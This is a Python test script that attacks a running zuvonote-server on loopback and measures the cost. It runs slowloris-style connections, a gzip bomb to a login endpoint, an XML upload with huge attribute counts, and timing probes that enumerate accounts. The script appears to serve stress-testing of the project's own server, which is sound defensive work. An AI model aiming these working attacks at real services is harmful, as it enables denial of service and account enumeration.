#!/usr/bin/env python3
"""Attacks on a running zuvonote-server, on loopback; prints what each cost.

  hostile.py slow   --port P [--trickling 1000] [--silent 1000] [--seconds 60]
      holds connections that send a header line every 2 s and connections
      that send nothing, reconnecting each one the server closes, for the
      given time (run a normal client beside it: bench/server/run.sh does,
      with wrk).
  hostile.py bomb   --port P --pid PID
      three sign-in requests at once, each 1 MB of gzip that inflates to
      1 GB; prints the replies and the server's peak resident memory.
  hostile.py attributes --port P --user ID --digest MD5 [--count 100000]
      an upload whose root element carries COUNT attributes; prints the
      reply and how long the server took.
  hostile.py timing --port P
      registers an account with a password that is not ASCII (one stored
      hash per code page), then times wrong sign-ins for it and for an
      unknown account, and wrong digests for its user id and an unknown one.
"""
import argparse
import asyncio
import hashlib
import os
import socket
import statistics
import sys
import threading
import time
import urllib.parse
import zlib


def body_of(reply: bytes) -> bytes:
    return reply.split(b"\r\n\r\n", 1)[-1]


def status_of(reply: bytes) -> str:
    line = reply.split(b"\r\n", 1)[0].decode("latin-1")
    return line or "(closed without a reply)"


def exchange(port: int, data: bytes, timeout: float = 120.0) -> bytes:
    s = socket.create_connection(("127.0.0.1", port))
    s.settimeout(timeout)
    try:
        s.sendall(data)
    except OSError:
        pass
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except OSError:
        pass
    s.close()
    return out


def peak_rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    return -1


async def slow(args):
    stats = {"trickle_opened": 0, "silent_opened": 0, "closed_by_server": 0, "refused": 0}
    stop = time.monotonic() + args.seconds

    async def connect(kind):
        """A new connection, counted; None (after a pause) when the server refused it."""
        try:
            conn = await asyncio.open_connection("127.0.0.1", args.port)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.5)
            return None
        stats[kind + "_opened"] += 1
        return conn

    async def trickler():
        while time.monotonic() < stop:
            conn = await connect("trickle")
            if not conn:
                continue
            r, w = conn
            try:
                w.write(b"POST /api/v11/get_notes.php HTTP/1.1\r\nHost: x\r\n")
                await w.drain()
                while time.monotonic() < stop:
                    await asyncio.sleep(2)
                    w.write(b"X-Slow: 1\r\n")
                    await w.drain()
                    if r.at_eof():
                        raise ConnectionError
            except (OSError, ConnectionError):
                stats["closed_by_server"] += 1
            w.close()

    async def silent():
        while time.monotonic() < stop:
            conn = await connect("silent")
            if not conn:
                continue
            r, w = conn
            try:
                await asyncio.wait_for(r.read(1), timeout=max(0.1, stop - time.monotonic()))
                stats["closed_by_server"] += 1
            except (asyncio.TimeoutError, OSError):
                pass
            w.close()

    tasks = [trickler() for _ in range(args.trickling)] + [silent() for _ in range(args.silent)]
    await asyncio.gather(*tasks)
    print(f"slow clients for {args.seconds} s: {args.trickling} trickling and {args.silent} silent held; "
          f"connections opened {stats['trickle_opened']} trickling, {stats['silent_opened']} silent; "
          f"closed by the server {stats['closed_by_server']}; connects refused {stats['refused']}")


def bomb(args):
    raw = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\0" * (1 << 20)
    body = b"".join(raw.compress(chunk) for _ in range(1024)) + raw.flush()
    head = (f"POST /sso/v3/login_80124.php HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Encoding: gzip\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()
    replies = [None] * 3

    def one(i):
        replies[i] = exchange(args.port, head + body)

    threads = [threading.Thread(target=one, args=(i,)) for i in range(3)]
    start = time.monotonic()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"gzip bomb: 3 × {len(body) / 1e6:.1f} MB inflating to 1 GB each: replies "
          f"{[status_of(r) for r in replies]} in {time.monotonic() - start:.1f} s; "
          f"server peak resident memory {peak_rss_mb(args.pid):.0f} MB")


def attributes(args):
    attrs = " ".join(f"a{i}=\"1\"" for i in range(args.count))
    xml = f"<?xml version=\"1.0\" encoding=\"utf-8\"?><NoteList {attrs}></NoteList>"
    body = urllib.parse.quote_plus(xml).encode()
    target = (f"/api/v11/update_note.php?userid={args.user}&userpass={args.digest}&pcid=BENCH"
              f"&uploadfields={'1' * 20}&os=Windows")
    head = (f"POST {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n").encode()
    start = time.monotonic()
    reply = exchange(args.port, head + body, timeout=300)
    took = time.monotonic() - start
    print(f"upload with {args.count} attributes on the root ({len(body) / 1e6:.1f} MB): "
          f"{status_of(reply)} body {body_of(reply)[:10]!r} after {took * 1000:.0f} ms")


def timing(args):
    def median_ms(make, n=15):
        times = []
        for i in range(n):
            data = make(i)
            start = time.monotonic()
            exchange(args.port, data)
            times.append((time.monotonic() - start) * 1000)
        return statistics.median(times)

    def sign_in(user):
        def make(i):
            body = f"username={user}&password={'%032x' % (i + 1)}".encode()
            return (f"POST /sso/v3/login_80124.php HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                    f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
                    ).encode() + body
        return make

    def get_notes(user):
        def make(i):
            q = f"userid={user}&userpass={'%032x' % (i + 1)}&pcid=BENCH"
            return (f"POST /api/v11/get_notes.php?{q} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                    f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(q)}\r\n\r\n{q}"
                    ).encode()
        return make

    email = "timing-%d@example.com" % os.getpid()
    password = urllib.parse.quote("pässwörd-%d" % os.getpid())
    form = (f"username={email}&password={password}&uemail=&uname=Timing&utel=&umobile=&usite=&uprovince="
            f"&ucity=&uqq=&umsn=&uremark=&regfrom=bench&affid=").encode()
    start = time.monotonic()
    reply = exchange(args.port, (f"POST /sso/v3/reg_6541z.php HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                                 f"Content-Type: application/x-www-form-urlencoded\r\n"
                                 f"Content-Length: {len(form)}\r\n\r\n").encode() + form)
    print(f"registration: {body_of(reply)!r} after {(time.monotonic() - start) * 1000:.0f} ms")
    right = hashlib.md5(("pässwörd-%d" % os.getpid()).encode()).hexdigest()
    body = f"username={email}&password={right}".encode()
    reply = exchange(args.port, (f"POST /sso/v3/login_80124.php HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                                 f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
    user = int.from_bytes(body_of(reply)[4:8], "little")
    print("wrong sign-in, median ms: unknown account %.1f, account with seven stored hashes %.1f" %
          (median_ms(sign_in("nobody-%d@example.com" % os.getpid())), median_ms(sign_in(email))))
    print("get_notes.php with a wrong digest, median ms: unknown user id %.1f, that account's id %.1f" %
          (median_ms(get_notes(987654321)), median_ms(get_notes(user))))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["slow", "bomb", "attributes", "timing"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int)
    p.add_argument("--trickling", type=int, default=1000)
    p.add_argument("--silent", type=int, default=1000)
    p.add_argument("--seconds", type=float, default=60)
    p.add_argument("--count", type=int, default=100000)
    p.add_argument("--user", type=int, default=1)
    p.add_argument("--digest", default="")
    args = p.parse_args()
    if args.attack == "slow":
        asyncio.run(slow(args))
    elif args.attack == "bomb":
        bomb(args)
    elif args.attack == "attributes":
        attributes(args)
    else:
        timing(args)


if __name__ == "__main__":
    sys.exit(main())
